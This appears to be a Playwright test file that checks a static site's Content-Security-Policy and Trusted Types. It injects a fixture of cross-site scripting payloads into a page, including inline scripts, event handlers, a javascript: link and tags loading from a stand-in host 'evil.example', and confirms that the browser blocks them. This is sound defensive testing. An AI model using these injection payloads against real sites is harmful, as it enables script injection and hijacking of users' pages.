"""The policy of every page in a real browser: our own pages never meet it, and what is not ours runs into it."""

import re
from collections.abc import Callable, Iterator
from html.parser import HTMLParser

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route, expect

from tests.builder import Site

POLICY = (
    "default-src 'none'; style-src 'self'; script-src 'self'; img-src 'self'; font-src 'self'; connect-src 'self'; "
    "base-uri 'none'; form-action 'self'; require-trusted-types-for 'script'"
)
LISTEN = """
window.broken = [];
document.addEventListener("securitypolicyviolation", (event) => window.broken.push(event.effectiveDirective));
"""
PLEDGE = "companies/acme/soon/"
REFRESH = b'http-equiv="refresh"'


def addresses(site: Site) -> list[str]:
    """All pages but those that lead on to others by themselves."""
    pages = [address for address, data in site.built().items() if address.endswith(".html") and REFRESH not in data]
    return [address.removesuffix("index.html") for address in pages]


class Start(HTMLParser):
    """The first elements of a page, as another parser than the auditor's reads them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text[: text.index("</head>")])

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


def test_the_policy_stands_before_all_that_a_browser_could_load(site: Site) -> None:
    pages = {address: data for address, data in site.built().items() if address.endswith(".html")}
    assert len(pages) > 40
    for data in pages.values():
        html, head, charset, policy = Start(data.decode()).seen[:4]
        assert (html[0], head) == ("html", ("head", {}))
        assert charset == ("meta", {"charset": "utf-8"})
        assert policy == ("meta", {"http-equiv": "Content-Security-Policy", "content": POLICY})


@pytest.fixture
def listening(browser: Browser) -> Iterator[BrowserContext]:
    context = browser.new_context()
    context.add_init_script(LISTEN)
    yield context
    context.close()


def use_search(page: Page) -> None:
    page.get_by_role("searchbox").last.fill("cars")
    page.get_by_role("searchbox").last.press("Enter")
    expect(page.locator("#results h3").first).to_be_visible()


def use_filter(page: Page) -> None:
    page.get_by_label("Company").select_option(index=1)
    page.get_by_label("Sort").select_option(index=1)
    expect(page.locator("#told[role=status]")).not_to_be_empty()


def use_time_machine(page: Page) -> None:
    expect(page.locator("#told")).not_to_be_empty()
    page.get_by_role("slider").press("ArrowLeft")


def use_pledge(page: Page) -> None:
    for part in page.locator("details > summary").all():
        part.click()
    for button in page.locator("main button:visible").all():
        button.click()
    for chart in page.locator("[role=group][aria-label^=Chart]").all():
        chart.press("ArrowRight")


USES: dict[str, Callable[[Page], None]] = {
    "search/": use_search,
    "pledges/": use_filter,
    "time-machine/": use_time_machine,
    PLEDGE: use_pledge,
    f"{PLEDGE}embed/": use_pledge,
}


def test_no_page_meets_its_policy_or_asks_anybody_else(listening: BrowserContext, site: Site, base_url: str) -> None:
    page, said, asked = listening.new_page(), list[str](), list[str]()
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(error.message))
    page.on("request", lambda request: asked.append(request.url))
    seen = addresses(site)
    assert USES.keys() <= set(seen)
    for address in seen:
        page.goto(base_url + address, wait_until="networkidle" if address in USES else "load")
        if address in USES:
            USES[address](page)
        assert page.evaluate("window.broken") == [], address
    page.goto(f"{base_url}{PLEDGE}embed/?on=2024-12-02")
    assert page.evaluate("window.broken") == []
    assert said == []
    assert [url for url in asked if not url.startswith(base_url)] == []


HOSTILE = """
<script>window.ran = "a script in the page"</script>
<script src="https://evil.example/x.js"></script>
<script type="module">window.ran = "a module in the page"</script>
<img src="nothing.png" onerror="window.ran = 'a handler'">
<img src="https://evil.example/pixel.png">
<svg><animate onbegin="window.ran = 'an animation'" attributeName="x" dur="1s"></animate></svg>
<iframe srcdoc="<script>parent.ran = 'a frame'</script>"></iframe>
<iframe src="https://evil.example/"></iframe>
<object data="data:text/html,<script>parent.ran = 1</script>"></object>
<link rel="stylesheet" href="https://evil.example/x.css">
<style>h1 { display: none }</style>
<p style="position: fixed">Kept</p>
<base href="https://evil.example/">
<a id="followed" href="javascript:window.ran = 'a link'">follow</a>
<form action="https://evil.example/"><button id="sent">send</button></form>
"""
STOPPED = {"script-src-elem", "script-src-attr", "img-src", "frame-src", "object-src", "style-src-elem",
           "style-src-attr", "base-uri", "form-action"}  # fmt: skip


@pytest.fixture
def invaded(listening: BrowserContext, site: Site, base_url: str) -> Page:
    """A pledge as it would be served if all of this had come past every room of the program."""
    page = listening.new_page()

    def answer(route: Route) -> None:
        text = (site.output / PLEDGE / "index.html").read_text(encoding="utf-8")
        route.fulfill(body=text.replace("</main>", f"{HOSTILE}</main>"), content_type="text/html; charset=utf-8")

    page.route(re.compile(f"{re.escape(base_url + PLEDGE)}$"), answer)
    page.goto(base_url + PLEDGE)
    return page


def test_what_is_not_ours_is_stopped_by_the_policy(invaded: Page, base_url: str) -> None:
    answered: list[str] = []
    invaded.on("response", lambda response: answered.append(response.url))
    invaded.locator("#followed").click(no_wait_after=True)
    invaded.locator("#sent").click(no_wait_after=True)
    invaded.wait_for_function("window.broken.includes('form-action')")
    assert invaded.evaluate("window.ran") is None
    assert set(invaded.evaluate("window.broken")) >= STOPPED
    assert invaded.url == base_url + PLEDGE
    assert invaded.get_by_role("heading", level=1).is_visible()
    assert [url for url in answered if "evil" in url] == []


@pytest.mark.parametrize(
    "sink",
    [
        "document.body.innerHTML = '<b>x</b>'",
        "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
        "document.write('x')",
        "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
        "document.createElement('script').src = '/x.js'",
        "document.createElement('script').text = 'x'",
        "document.createElement('iframe').srcdoc = 'x'",
        "setTimeout('x', 0)",
        "document.body.setAttribute('onclick', 'x')",
    ],
)
def test_text_becomes_no_code_and_no_element(sink: str, listening: BrowserContext, base_url: str) -> None:
    page = listening.new_page()
    page.goto(base_url + PLEDGE)
    asked = f"() => {{ try {{ {sink}; return 'done' }} catch (error) {{ return error.name }} }}"
    assert page.evaluate(asked) == "TypeError"
    assert "require-trusted-types-for" in page.evaluate("window.broken")
